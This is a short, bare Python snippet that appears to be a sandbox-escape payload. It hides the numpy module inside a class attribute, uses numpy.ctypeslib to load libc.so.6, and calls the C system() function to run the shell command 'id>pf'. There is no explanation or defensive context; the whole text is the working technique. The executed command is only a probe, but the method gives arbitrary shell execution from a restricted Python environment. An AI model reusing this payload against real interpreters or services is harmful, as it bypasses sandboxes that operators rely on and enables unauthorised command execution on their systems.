def my_K(x):

    class C:
        v = x
    return C.v
import numpy as np
my_K(np).ctypeslib.load_library('libc.so.6', '/lib/x86_64-linux-gnu').system(b'id>pf')
